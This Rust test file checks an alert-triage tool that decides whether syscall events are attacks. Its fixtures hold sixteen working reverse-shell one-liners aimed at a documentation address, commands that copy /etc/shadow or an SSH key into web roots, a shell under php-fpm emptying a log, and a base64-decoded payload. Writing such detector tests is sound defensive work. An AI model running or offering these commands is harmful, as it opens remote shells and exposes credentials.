//! What is done and cannot be anything else must not end undetermined, and what only looks like it must not be called an
//! attack.

#![allow(clippy::print_stdout, reason = "a test that is skipped says so")]

#[allow(dead_code, reason = "each test needs a part of it")]
#[path = "common.rs"]
mod common;

use alert::Alert;
use report::Report;
use serde_json::json;

/// The report on an exec of this command line, done, below this parent.
fn exec(parent: &str, grandparent: &str, line: &str) -> Report {
    let name = line.split(' ').next().unwrap_or_default().rsplit('/').next().unwrap_or_default();
    let fields = json!({
        "evt.type": "execve", "evt.res": "SUCCESS", "proc.name": name, "proc.cmdline": line, "proc.pname": parent,
        "proc.aname[2]": grandparent, "container.id": "9f1c2ab77d10", "user.uid": 33, "proc.tty": 0,
    });
    let line = json!({ "rule": "A rule of our own", "source": "syscall", "output_fields": fields }).to_string();
    let alert: Alert = analysis::analyse(line.as_bytes(), None).alerts.remove(0);
    common::report(alert)
}

/// Shells that are handed to the other end of a connection, whoever started them.
const REVERSE_SHELLS: [&str; 16] = [
    "bash -c bash -i >& /dev/tcp/203.0.113.40/4444 0>&1",
    "sh -c bash -i >&/dev/tcp/203.0.113.40/443 <&1",
    "bash -c 0<&196;exec 196<>/dev/tcp/203.0.113.40/4444; sh <&196 >&196 2>&196; while read line; do $line; done",
    "nc -e /bin/sh 203.0.113.40 4444",
    "/usr/bin/ncat 203.0.113.40 4444 -e /bin/bash",
    "nc.traditional -c bash 203.0.113.40 4444",
    "ncat --sh-exec bash 203.0.113.40 4444",
    "socat tcp-connect:203.0.113.40:4444 exec:'bash -li',pty,stderr,setsid",
    "socat TCP-LISTEN:8080,fork EXEC:/bin/bash",
    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.40 4444 >/tmp/f",
    "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.40\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])",
    "perl -e use Socket;$i=\"203.0.113.40\";socket(S,PF_INET,SOCK_STREAM,0);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
    "php -r $s=fsockopen(\"203.0.113.40\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
    "ruby -rsocket -e c=TCPSocket.new(\"203.0.113.40\",4444);while(cmd=c.gets);IO.popen(cmd){|io|c.print io.read}end",
    "node -e (function(){var cp=require('child_process'),net=require('net');var s=new net.Socket();})()",
    "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNDAvNDQ0NCAwPiYx | base64 -d | bash",
];

/// Code that was given to an interpreter on the spot: under a web server that is an attack, elsewhere it is daily work.
const INLINE: [&str; 6] = [
    "python3 -c import os;print(os.environ)",
    "/usr/bin/perl -MData::Dumper -e print 1",
    "php -r echo getcwd();",
    "ruby -e puts 1",
    "sh -c python3 -c print(1)",
    "node -e console.log(1)",
];

/// Lines that look like one of these and are not.
const HARMLESS: [&str; 8] = [
    "bash -c echo > /dev/tcp/db/5432",
    "timeout 1 bash -c cat < /dev/null > /dev/tcp/db/5432 2>&1",
    "bash -c exec 3<>/dev/tcp/127.0.0.1/8080; echo -e GET / >&3; cat <&3",
    "nc -z db 5432",
    "nc -w 2 -vz example.org 443",
    "socat TCP-LISTEN:8080,fork TCP:backend:80",
    "python3 -c import socket;socket.create_connection((\"db\",5432))",
    "php artisan schedule:run",
];

fn assessment(report: &Report) -> String {
    common::badge(report, "Assessment")
}

#[test]
fn a_whole_reverse_shell_that_is_done_is_an_attack() {
    for line in REVERSE_SHELLS {
        let report = exec("bash", "sshd", line);
        assert_eq!(assessment(&report), "true positive", "{line}");
    }
}

#[test]
fn code_on_the_command_line_is_an_attack_under_a_web_server_only() {
    for line in INLINE {
        for (parent, grandparent) in [("php-fpm8.2", "php-fpm8.2"), ("apache2", "apache2"), ("sh", "nginx")] {
            let report = exec(parent, grandparent, line);
            assert_eq!(assessment(&report), "true positive", "{parent}: {line}");
        }
        assert_eq!(assessment(&exec("bash", "sshd", line)), "undetermined", "{line}");
    }
}

#[test]
fn what_only_looks_like_one_is_no_attack() {
    for line in HARMLESS {
        assert_eq!(assessment(&exec("bash", "containerd-shim", line)), "undetermined", "{line}");
    }
}

/// An event told by its fields alone.
fn event(fields: serde_json::Value) -> Report {
    let line = json!({ "rule": "A rule of our own", "source": "syscall", "output_fields": fields }).to_string();
    common::report(analysis::analyse(line.as_bytes(), None).alerts.remove(0))
}

/// A service's account, nobody logged in, no terminal.
fn as_service(account: &str, other: serde_json::Value) -> serde_json::Value {
    let mut fields = json!({ "user.name": account, "user.uid": 33, "user.loginuid": -1, "proc.tty": 0,
        "evt.res": "SUCCESS", "container.id": "host", "proc.pname": "sh" });
    fields.as_object_mut().expect("fields").extend(other.as_object().expect("fields").clone());
    fields
}

/// A link to a file of secrets where a web server hands out files.
fn link_to_secrets(result: &str) -> serde_json::Value {
    json!({ "evt.type": "symlinkat", "evt.res": result, "evt.arg.target": "/etc/shadow",
        "evt.arg.linkpath": "/var/www/html/s.txt", "proc.name": "ln", "proc.cmdline": "ln -s /etc/shadow /var/www/html/s.txt" })
}

fn exec_of(line: &str) -> serde_json::Value {
    let name = line.split(' ').next().unwrap_or_default();
    json!({ "evt.type": "execve", "proc.name": name, "proc.cmdline": line })
}

#[test]
fn secrets_that_a_service_puts_where_they_are_served_are_an_attack() {
    let done = [
        as_service("www-data", link_to_secrets("SUCCESS")),
        as_service("nginx", exec_of("cp /etc/shadow /usr/share/nginx/html/s.txt")),
        as_service("apache", exec_of("sh -c cat /etc/shadow > /var/www/html/a/b.txt")),
        as_service("tomcat", exec_of("ln -s /root/.ssh/id_ed25519 /opt/tomcat/webapps/ROOT/k")),
        as_service(
            "www-data",
            json!({ "evt.type": "linkat", "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/srv/www/x",
            "proc.name": "ln", "proc.cmdline": "ln /etc/shadow /srv/www/x", "proc.aname[2]": "apache2" }),
        ),
    ];
    for fields in done {
        let report = event(fields.clone());
        assert_eq!(assessment(&report), "true positive", "{fields}");
        assert!(["high", "critical"].contains(&common::badge(&report, "Severity").as_str()), "{fields}");
    }
}

#[test]
fn the_same_refused_or_of_unknown_result_is_not_called_done() {
    for (result, outcome) in [("EACCES", "blocked"), ("ENOENT", "attempted"), ("ENOSPC", "attempted")] {
        let report = event(as_service("www-data", link_to_secrets(result)));
        assert_eq!(assessment(&report), "undetermined", "{result}");
        assert_eq!(common::badge(&report, "Outcome"), outcome, "{result}");
    }
    let mut unknown = as_service("www-data", link_to_secrets("SUCCESS"));
    unknown.as_object_mut().expect("fields").remove("evt.res");
    assert_eq!(assessment(&event(unknown)), "undetermined");
}

/// What services and administrators do every day with the same names, one difference each.
#[test]
fn daily_work_of_services_and_administrators_is_no_attack() {
    let near = [
        as_service("root", exec_of("cp -p /etc/shadow /var/backups/shadow.bak")),
        as_service("www-data", exec_of("ln -s /var/www/releases/42 /var/www/html/current")),
        as_service("postgres", exec_of("sh -c cp pg_wal/000000010000000000000001 /archive/000000010000000000000001")),
        as_service("nobody", exec_of("cat /etc/passwd")),
        as_service("root", exec_of("cp /etc/letsencrypt/live/x/fullchain.pem /srv/www/cert.pem")),
        as_service("www-data", exec_of("grep -r shadow /var/www/html/css/")),
    ];
    for fields in near {
        assert_eq!(assessment(&event(fields.clone())), "undetermined", "{fields}");
    }
}

/// Whatever a shell below a web server does is seen as such, not its exec alone; what the server does itself is its work.
#[test]
fn a_shell_below_a_web_server_counts_in_whatever_it_does() {
    let emptied = |name: &str, parent: &str, result: &str| {
        event(as_service(
            "www-data",
            json!({ "evt.type": "openat", "evt.res": result, "evt.arg.flags": "O_TRUNC|O_CREAT|O_WRONLY",
            "fd.name": "/var/log/nginx/access.log", "proc.name": name, "proc.pname": parent, "proc.cmdline": name }),
        ))
    };
    let told = |report: &Report, words: &str| report::markdown::render(report).contains(words);
    let found = emptied("sh", "php-fpm", "SUCCESS");
    assert!(told(&found, "The parent `php-fpm` is a service") && told(&found, "A shell below `php-fpm` emptied"));
    assert_eq!((assessment(&found).as_str(), common::badge(&found, "Severity").as_str()), ("undetermined", "high"));
    let refused = emptied("sh", "php-fpm", "EACCES");
    assert!(!told(&refused, "emptied `/var/log"), "nothing was emptied");
    for (name, parent) in [("nginx", "nginx"), ("logrotate", "cron"), ("sh", "logrotate")] {
        assert!(!told(&emptied(name, parent, "SUCCESS"), "below"), "{name} of {parent}");
    }
}

/// A shell with a terminal as a service's account: below the service itself it came in by a hole, through the container
/// runtime or `sudo` it is somebody with the right to.
#[test]
fn a_typed_shell_of_a_service_counts_by_where_it_came_from() {
    let shell = |parent: &str, login: i64| {
        as_service(
            "www-data",
            json!({ "evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash", "proc.tty": 34816,
                "proc.pname": parent, "user.loginuid": login }),
        )
    };
    assert_eq!(assessment(&event(shell("php-fpm8.2", -1))), "true positive");
    for fields in [shell("runc", -1), shell("containerd-shim", -1), shell("sudo", 1000), shell("su", -1)] {
        assert_eq!(assessment(&event(fields.clone())), "undetermined", "{fields}");
    }
}

/// The job may be planned and the attack come with the code that it builds.
#[test]
fn a_runner_of_build_jobs_does_not_explain_an_attack_away() {
    let build = "sh -c make -C /home/runner/work/app/app";
    assert!(assessment(&exec("Runner.Worker", "Runner.Listener", build)).contains("maintenance"));
    let attack = "bash -c cd /home/runner/work/app/app; bash -i >& /dev/tcp/203.0.113.40/4444 0>&1";
    assert_eq!(assessment(&exec("Runner.Worker", "Runner.Listener", attack)), "true positive");
}

#[test]
fn what_is_decoded_is_shown_as_a_value_of_the_alert() {
    let report = exec("bash", "sshd", "sh -c echo PGI+IFsxXSh4KSBgaWRgIDwvYj4= | base64 -d | sh");
    let values: Vec<&str> = common::sentences(&report)
        .into_iter()
        .flat_map(|(_, sentence)| &sentence.inlines)
        .filter_map(|inline| match inline {
            report::Inline::Evidence { field, value } if field == "proc.cmdline" => Some(value.as_raw()),
            _ => None,
        })
        .collect();
    assert!(values.contains(&"<b> [1](x) `id` </b>"), "{values:?}");
}

/// What speaks for another harmless cause is no word against the one that was found.
#[test]
fn only_what_contradicts_is_said_to_speak_against() {
    let line = json!({ "rule": "Read sensitive file untrusted", "source": "syscall", "output_fields": {
        "evt.type": "openat", "fd.name": "/etc/shadow", "proc.exepath": "/usr/lib/systemd/systemd-userwork",
        "proc.name": "systemd-userwor", "proc.pname": "systemd-userdbd", "proc.aname[2]": "systemd", "proc.tty": 0,
        "container.id": "host", "user.uid": 0 } });
    let report = common::report(analysis::analyse(line.to_string().as_bytes(), None).alerts.remove(0));
    let text = report::markdown::render(&report);
    let group =
        |lead: &str| text.split(lead).nth(1).and_then(|rest| rest.split("\n\n").nth(1)).unwrap_or_default().to_owned();
    assert!(group("What speaks against it:").contains("only login and account tools"), "{text}");
    assert!(!group("What speaks against it:").contains("It descends from"), "{text}");
    assert!(group("What else was seen:").contains("It descends from `systemd`"), "{text}");
}

/// A login service that reads the rules of logins is what it looks like; from elsewhere, or writing, it is not.
#[test]
fn a_login_service_is_known_by_its_path_and_by_what_it_reads() {
    let open = |rule: &str, path: &str, file: &str| {
        let line = json!({ "rule": rule, "source": "syscall", "output_fields": { "evt.type": "openat", "fd.name": file,
            "proc.exepath": path, "proc.name": "gdm-session-wor", "proc.pname": "gdm3", "container.id": "host" } });
        assessment(&common::report(analysis::analyse(line.to_string().as_bytes(), None).alerts.remove(0)))
    };
    const READ: &str = "Read sensitive file untrusted";
    const WORKER: &str = "/usr/libexec/gdm-session-worker";
    assert_eq!(open(READ, WORKER, "/etc/pam.d/common-session"), "false positive, to be confirmed");
    assert_eq!(open(READ, "/tmp/gdm-session-worker", "/etc/pam.d/common-session"), "undetermined");
    assert_eq!(open(READ, WORKER, "/etc/shadow"), "undetermined");
    assert_eq!(open("Write below etc", WORKER, "/etc/pam.d/common-session"), "undetermined");
}
